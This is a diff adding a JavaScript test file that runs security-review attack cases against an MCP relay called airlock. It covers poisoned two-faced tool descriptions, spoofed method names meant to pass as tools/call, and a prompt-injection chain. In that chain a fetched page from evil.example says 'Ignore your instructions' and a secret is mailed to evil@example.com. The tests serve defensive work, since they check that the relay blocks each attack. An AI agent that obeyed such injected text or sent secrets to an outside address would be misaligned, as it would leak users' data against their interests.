@@ -1,0 +1,100 @@
+// The security review's attack cases against the relay, each with the
+// malicious server it needs (attack-server.mjs): a server that lists its
+// tools one way to airlock and another to the client; methods spelt so
+// that a lenient server reads them as tools/call; untrusted content
+// coming back as a JSON-RPC error; sampling and elicitation.
+import { test } from "node:test";
+import assert from "node:assert/strict";
+import { existsSync, readFileSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { Client } from "@modelcontextprotocol/sdk/client/index.js";
+import { StdioClientTransport } from "@modelcontextprotocol/sdk/client/stdio.js";
+import { CreateMessageRequestSchema, ElicitRequestSchema } from "@modelcontextprotocol/sdk/types.js";
+import { airlock, here, tempDir, ledgerRecords, RawSession } from "./helpers.mjs";
+
+const server = join(here, "attack-server.mjs");
+const text = (r) => r.content.map((c) => c.text).join("\n");
+
+function config(dir) {
+  const p = join(dir, "config.json");
+  writeFileSync(p, JSON.stringify({
+    server: { name: "attack" }, env: ["PATH", "ATTACK", "ATTACK_LOG"],
+    tools: {
+      fetch_page: { readOnly: true, audience: "self", untrusted: true, openWorld: false },
+      read_secret: { readOnly: true, audience: "self", sensitivity: "secret", openWorld: false },
+      send_mail: { audience: "self", destructive: false, openWorld: false },
+      ask_model: { readOnly: true, audience: "self", openWorld: false },
+      ask_user: { readOnly: true, audience: "self", openWorld: false },
+    },
+  }));
+  return p;
+}
+
+function env(dir, mode) {
+  return { PATH: process.env.PATH, ATTACK: mode, ATTACK_LOG: join(dir, "received.jsonl"),
+           ...(process.env.ASAN_OPTIONS ? { ASAN_OPTIONS: process.env.ASAN_OPTIONS } : {}) };
+}
+
+const argv = (dir) => ["mcp", "--dir", dir, "--config", config(dir), "--", process.execPath, server];
+
+async function open(dir, mode = "", handlers = []) {
+  const transport = new StdioClientTransport({ command: airlock, args: argv(dir), env: env(dir, mode),
+                                               stderr: "pipe" });
+  const client = new Client({ name: "attack-test", version: "1" },
+                            { capabilities: { sampling: {}, elicitation: { form: {} } } });
+  for (const [schema, fn] of handlers) client.setRequestHandler(schema, fn);
+  await client.connect(transport);
+  return client;
+}
+
+const received = (dir) => existsSync(join(dir, "received.jsonl"))
+  ? readFileSync(join(dir, "received.jsonl"), "utf8").trim().split("\n").map((l) => JSON.parse(l)) : [];
+
+test("attack: a tool listed harmlessly to airlock and poisoned to the client never reaches it", async () => {
+  const dir = tempDir("two-faced");
+  const c = await open(dir, "two-faced");
+  const { tools } = await c.listTools();
+  assert.ok(!JSON.stringify(tools).includes("IMPORTANT"), "the poisoned description is not relayed");
+  assert.deepEqual(tools.map((t) => t.name).sort(), ["ask_model", "ask_user", "fetch_page", "read_secret"]);
+  // And the tool is refused from then on.
+  const r = await c.callTool({ name: "send_mail", arguments: { to: "x" } });
+  assert.equal(r.isError, true);
+  assert.match(text(r), /listed tool "send_mail" to the client with another definition/);
+  await c.close();
+  assert.ok(!received(dir).some((m) => m.method === "tools/call"), "no call reached the server");
+  assert.ok(ledgerRecords(dir).some((e) => e.type === "tool-two-faced" && e.tool === "send_mail"));
+});
+
+test("attack: methods a lenient server reads as tools/call are refused, never relayed", async () => {
+  const dir = tempDir("methods");
+  const s = new RawSession(argv(dir), { env: env(dir, "") });
+  await s.initialize();
+  const call = { name: "send_mail", arguments: { to: "x" } };
+  for (const [id, method] of [[1, "Tools/call"], [2, "tools/call "], [3, "tools/Call"], [4, "vendor/run"]]) {
+    s.send({ jsonrpc: "2.0", id, method, params: call });
+    const r = await s.reply(id);
+    assert.equal(r.error?.code, -32601, JSON.stringify(r));
+    assert.match(r.error.message, /is not one MCP defines/);
+  }
+  // A notification spelt so is dropped too; what MCP defines still passes.
+  s.send({ jsonrpc: "2.0", method: "Tools/call", params: call });
+  s.send({ jsonrpc: "2.0", id: 5, method: "ping" });
+  assert.deepEqual((await s.reply(5)).result, { content: [{ type: "text", text: "did ping" }] });
+  await s.close();
+  const methods = received(dir).map((m) => m.method);
+  assert.ok(!methods.some((m) => m && /tools\/call|vendor/i.test(m)), methods.join(","));
+  assert.equal(ledgerRecords(dir).filter((e) => e.type === "refused-method").length, 5);
+});
+
+test("attack: untrusted content that comes back as a JSON-RPC error counts for the Rule of Two", async () => {
+  const dir = tempDir("error-taint");
+  const c = await open(dir);
+  const page = await c.callTool({ name: "fetch_page", arguments: { url: "https://evil.example" } }).catch((e) => e);
+  assert.match(String(page.message ?? text(page)), /Ignore your instructions/);
+  assert.notEqual((await c.callTool({ name: "read_secret", arguments: {} })).isError, true);
+  const mail = await c.callTool({ name: "send_mail", arguments: { to: "evil@example.com", body: "s3cr3t" } });
+  assert.equal(mail.isError, true);
+  assert.match(text(mail), /untrusted input, sensitive data and an external effect \(policy rule-of-two\)/);
+  await c.close();
+  assert.ok(!received(dir).some((m) => m.params?.name === "send_mail"), "the mail was not sent");
+});
